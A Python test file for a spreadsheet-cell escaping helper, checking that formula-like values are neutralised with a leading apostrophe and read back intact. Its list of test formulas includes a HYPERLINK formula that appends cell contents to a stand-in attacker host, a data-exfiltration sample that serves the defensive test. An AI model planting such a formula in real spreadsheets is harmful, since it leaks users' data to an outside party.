"""Cells of tables: what a spreadsheet would carry out is text, and what was written is read again."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sem_models.datasets.preparation.corrections import Correction, corrections_table, read_table
from sem_models.spreadsheets import as_cell, from_cell

FORMULAS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://evil.example?\"&A1)"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_like_a_formula(text: str) -> None:
    assert str(as_cell(text)).startswith("'")


@pytest.mark.parametrize("value", [-0.5, 3, None, "", "steel-sr", "a=b", "1e-3", "'quoted'"])
def test_numbers_and_other_texts_stay_as_they_are(value: object) -> None:
    assert as_cell(value) == value


@given(st.one_of(st.text(), st.text().map("'=".__add__), st.text().map("''-".__add__)))
def test_what_was_written_is_read_again(text: str) -> None:
    assert from_cell(str(as_cell(text))) == text


def test_a_table_of_corrections_names_such_files_and_finds_them_again() -> None:
    given = (Correction(image="=cmd.tif", group="+1"), Correction(image="-1.tif", use=False))
    text = corrections_table(given)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
    assert read_table("table.csv", text) == given
